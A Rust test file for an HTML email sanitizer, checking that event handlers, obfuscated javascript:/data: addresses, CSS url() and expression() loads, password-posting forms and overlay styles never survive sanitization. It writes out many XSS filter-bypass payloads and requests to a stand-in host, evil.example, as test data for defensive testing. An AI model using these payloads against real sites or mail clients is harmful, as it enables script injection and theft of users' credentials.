//! Hostile letters by the family: every handler on every kind of element, every way to write an address, every property that
//! might load, and structures that nobody wrote. Whatever goes in, nothing comes out that runs or fetches, by day, in the dark
//! and with quotes folded; and what it takes grows with its length.

mod inspect;

use inspect::dangers;
use proptest::prelude::*;
use waxwing_sanitize::{Colours, Look, Options, Quotes, examine_parts, for_sending, sanitize};

/// A letter in which the address is in markup only: it must be gone from the document altogether.
fn check(html: &str) {
    for document in shown(html) {
        assert!(
            !document.contains("evil.example"),
            "{html:?} left its address in {document}"
        );
    }
}

/// All ways in which a letter is shown; none of them runs or fetches.
fn shown(html: &str) -> [String; 2] {
    let ways = [(Colours::Own, Quotes::Open), (Colours::Dark, Quotes::Folded)];
    ways.map(|(colours, quotes)| {
        let options = Options {
            colours,
            quotes,
            ..Options::blocked()
        };
        let (safe, _) = sanitize(html, &options);
        let found = dangers(safe.fragment(), safe.style_sheet());
        assert!(
            found.is_empty(),
            "{html:?} left {found:?} in {:?} and {:?}",
            safe.fragment(),
            safe.style_sheet()
        );
        safe.frame(Look::DARK)
    })
}

const HANDLERS: &str = "onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration \
    onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste \
    onbeforeprint onbeforescriptexecute onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel \
    oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange \
    oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit ondragleave \
    ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onfinish onfocus \
    onfocusin onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture onhashchange \
    oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart \
    onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover \
    onmouseup onmousewheel onoffline ononline onpagehide onpageshow onpaste onpause onplay onplaying \
    onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover \
    onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll \
    onscrollend onscrollsnapchange onsearch onseeked onseeking onselect onselectionchange onselectstart \
    onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel \
    ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart \
    onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend onwebkittransitionend \
    onwheel onwebkitwillrevealbottom onzoom on onx";

#[test]
fn no_handler_stays_on_any_kind_of_element() {
    for handler in HANDLERS.split(' ') {
        for element in [
            "p",
            "a href=https://example.org",
            "img src=cid:a",
            "table",
            "td",
            "details open",
            "body",
            "html",
            "x-y",
            "svg",
            "math",
            "input autofocus",
            "video",
            "form",
            "marquee",
            "style",
            "br",
        ] {
            check(&format!("<{element} {handler}=alert(1)>x"));
            check(&format!("<{element} {}='alert(1)'/>x", handler.to_uppercase()));
        }
        check(&format!("<p title=\"a\"{handler}=alert(1)>x"));
        check(&format!("<p/{handler}\n=\talert(1)/title=a>x"));
    }
}

/// Elements and the attributes in which they take an address.
const PLACES: &str = "img.src img.srcset img.longdesc img.lowsrc image.href iframe.src iframe.srcdoc embed.src \
    object.data video.poster video.src audio.src source.src source.srcset track.src input.src \
    input.formaction form.action button.formaction base.href link.href body.background td.background \
    table.background svg.xlink:href use.href animate.values math.xlink:href blockquote.cite q.cite \
    ins.cite applet.codebase frame.src script.src style.src xml.src bgsound.src html.manifest a.ping \
    a.attributionsrc div.style meta.content";

/// Ways to write an address that a browser would follow or run.
fn addresses() -> Vec<String> {
    let mut all: Vec<String> = [
        "https://evil.example/a",
        "HTTP://evil.example/a",
        "//evil.example/a",
        "\\\\evil.example\\a",
    ]
    .map(str::to_owned)
    .to_vec();
    for scheme in [
        "javascript",
        "vbscript",
        "data",
        "blob",
        "filesystem",
        "file",
        "ftp",
        "ws",
        "about",
        "view-source",
        "mhtml",
        "jar",
    ] {
        let rest = "//evil.example/%0aalert(1)";
        all.push(format!("{scheme}:{rest}"));
        all.push(format!("{}:{rest}", scheme.to_uppercase()));
        all.push(format!(" \u{1}\t{scheme}:{rest}"));
        all.push(format!("{scheme}&colon;{rest}"));
        for at in 1..scheme.len() {
            let (start, end) = scheme.split_at(at);
            for between in ["&Tab;", "&NewLine;", "&#x0;", "\n", "\t", "&#10;", "\u{0}"] {
                all.push(format!("{start}{between}{end}:{rest}"));
            }
        }
        let encoded: String = scheme.bytes().map(|byte| format!("&#{byte:07}")).collect();
        all.push(format!("{encoded}:{rest}"));
        let hex: String = scheme.bytes().map(|byte| format!("&#x{byte:X};")).collect();
        all.push(format!("{hex}:{rest}"));
    }
    all
}

#[test]
fn no_address_that_runs_or_loads_stays_in_any_attribute() {
    for address in addresses() {
        for place in PLACES.split(' ') {
            let (element, attribute) = place.split_once('.').unwrap_or_default();
            check(&format!("<{element} {attribute}=\"{address}\">x"));
        }
    }
}

#[test]
fn a_link_leads_to_the_web_or_to_files_or_to_a_person_or_to_a_telephone_or_nowhere() {
    for address in addresses() {
        for element in ["a", "area"] {
            let html = format!("<map name=m><{element} href=\"{address}\">x</map>");
            let (safe, _) = sanitize(&html, &Options::blocked());
            let link = safe.fragment().split("href=\"").nth(1).map(str::to_owned);
            assert!(
                link.as_deref()
                    .is_none_or(|link| ["http://", "https://", "ftp://", "mailto:", "tel:"]
                        .iter()
                        .any(|start| link.starts_with(start))),
                "{html} leads to {link:?}"
            );
        }
    }
}

#[test]
fn no_property_loads_whatever_its_name_and_whatever_is_around_the_address() {
    let properties = "background background-image background-position-x border-image border-image-source clip-path \
        content cursor filter -webkit-filter backdrop-filter list-style list-style-image mask mask-image \
        -webkit-mask -webkit-mask-image -webkit-mask-box-image -webkit-box-reflect offset-path \
        shape-outside fill stroke marker marker-start src behavior -moz-binding -o-link color width font \
        font-family quotes --a symbols @import animation transition";
    let values = [
        "url(https://evil.example/a)",
        "url( 'https://evil.example/a' )",
        "URL(\"//evil.example/a\")",
        "u\\72l(https://evil.example/a)",
        "\\75\\72\\6c(https://evil.example/a)",
        "url\\28https://evil.example/a)",
        "image('https://evil.example/a')",
        "image-set('https://evil.example/a' 1x)",
        "-webkit-image-set(url(https://evil.example/a) 1x)",
        "cross-fade(url(https://evil.example/a), red)",
        "-webkit-cross-fade(url(https://evil.example/a), url(x), 50%)",
        "element(#a)",
        "paint(a)",
        "src('https://evil.example/a')",
        "var(--a, url(https://evil.example/a))",
        "attr(title url)",
        "env(a, url(https://evil.example/a))",
        "expression(alert(1))",
        "url(javascript:alert(1))",
        "url(data:image/svg+xml,<svg/onload=alert(1)>)",
        "linear-gradient(url(https://evil.example/a))",
        "calc(1px + url(https://evil.example/a))",
        "red/**/url(/**/https://evil.example/a)",
        "red url(https://evil.example/a",
        "'</style><script>alert(1)</script>'",
    ];
    for property in properties.split(' ') {
        for value in values {
            let quoted = value.replace('"', "&quot;").replace('<', "&lt;");
            check(&format!("<p style=\"{property}:{quoted}\">x"));
            check(&format!("<style>p{{color:red;{property}:{value}}}</style><p>x"));
            check(&format!(
                "<style>@media all{{p{{{property}:{value};color:red}}</style><p>x"
            ));
        }
    }
}

#[test]
fn nothing_posts_navigates_or_lies_over_what_is_outside() {
    for html in [
        "<form action=https://evil.example method=post><input name=password type=password><button>Send</button></form>",
        "<button form=f formaction=https://evil.example>x</button><input form=f type=image src=x>",
        "<a href=https://example.org target=_top>x</a>",
        "<base target=_parent><a href=https://example.org>x</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<div style='position:fixed;inset:0;z-index:2147483647'>x</div>",
        "<div style='position:sticky;top:-100px'>x</div>",
        "<style>html{position:fixed!important} body{pointer-events:none}</style>",
        "<dialog open style='position:fixed'>x</dialog><div popover=manual>x</div>",
        "<div autofocus tabindex=1 contenteditable accesskey=x draggable=true>x</div>",
    ] {
        check(html);
        let (safe, _) = sanitize(html, &Options::blocked());
        let whole = format!("{} {}", safe.fragment(), safe.style_sheet());
        for never in [
            "<form",
            "<input",
            "<button",
            "_top",
            "_parent",
            "<meta",
            "fixed",
            "sticky",
            "<dialog",
            "popover",
            "autofocus",
            "tabindex",
            "contenteditable",
            "accesskey",
            "draggable",
        ] {
            assert!(!whole.contains(never), "{html}: {never} in {whole}");
        }
    }
}

/// Pieces of letters, good and bad.
fn piece() -> impl Strategy<Value = String> {
    let tags = prop::sample::select(vec![
        "a",
        "b",
        "blockquote type=cite",
        "body bgcolor=black",
        "br",
        "center",
        "details",
        "div class=gmail_quote",
        "div",
        "font color=red",
        "form",
        "h1",
        "html",
        "i",
        "iframe",
        "img src=https://evil.example/a",
        "img src=cid:a",
        "li",
        "map name=a",
        "math",
        "mglyph",
        "mtext",
        "noscript",
        "object",
        "ol",
        "option",
        "p",
        "plaintext",
        "pre",
        "s",
        "script",
        "select",
        "span",
        "style",
        "summary",
        "svg",
        "table",
        "tbody",
        "td bgcolor='#fff'",
        "template",
        "textarea",
        "title",
        "tr",
        "u",
        "ul",
        "video",
        "xmp",
        "a href=javascript:x",
        "p onclick=x",
        "p style='background:url(//evil.example)'",
        "foreignObject",
        "annotation-xml encoding=text/html",
        "desc",
        "nobr",
        "frameset",
        "head",
        "col",
        "caption",
        "template shadowrootmode=open",
        "dialog open",
        "selectedcontent",
        "bdo dir=rtl",
        "span style='display: inline-block !important'",
        "div style='display:grid;grid-template:subgrid/subgrid;height:100%'",
        "p style='text-wrap:pretty;outline:1px solid;counter-reset:a;font-weight:137'",
    ]);
    prop_oneof![
        4 => tags.clone().prop_map(|tag| format!("<{tag}>")),
        3 => tags.prop_map(|tag| format!("</{}>", tag.split(' ').next().unwrap_or(tag))),
        2 => "[a-z<>&\"'=/! -]{0,12}",
        1 => prop::sample::select(vec![
            "<!--", "-->", "<![CDATA[", "]]>", "<?x", "&lt;script&gt;", "&#0;", "\u{0}", "\u{feff}", "</p", "<p/", "\"", "'>",
            "p{color:red}", "@import '//evil.example';", "url(https://evil.example", "onerror=alert(1)",
            "א a ", "\u{202b}a\u{202c}", "ب", "क\u{94d}", "@layer a{", "@container (width>1px){", "&{color:red}",
        ]).prop_map(str::to_owned),
    ]
}

/// So many cases; more of them where a longer run was asked for (`npm run bench -- fuzz`).
fn cases(usual: u32) -> u32 {
    let times = std::env::var("WAXWING_FUZZ")
        .ok()
        .and_then(|times| times.parse::<u32>().ok());
    usual.saturating_mul(times.unwrap_or(1))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(cases(384)))]

    #[test]
    fn no_structure_that_nobody_wrote_comes_through_or_takes_more_than_its_length(
        pieces in prop::collection::vec(piece(), 1..60),
        times in prop::sample::select(vec![1_usize, 1, 1, 40]),
    ) {
        let html = pieces.concat().repeat(times);
        shown(&html);
        for_sending(&html);
        let dark = Options { colours: Colours::Dark, ..Options::blocked() };
        let steps = examine_parts(std::slice::from_ref(&html), &dark).2.steps();
        let most = 2_000 + 400 * u64::try_from(html.len()).unwrap_or(u64::MAX);
        prop_assert!(steps < most, "{} octets took {} steps", html.len(), steps);
    }
}
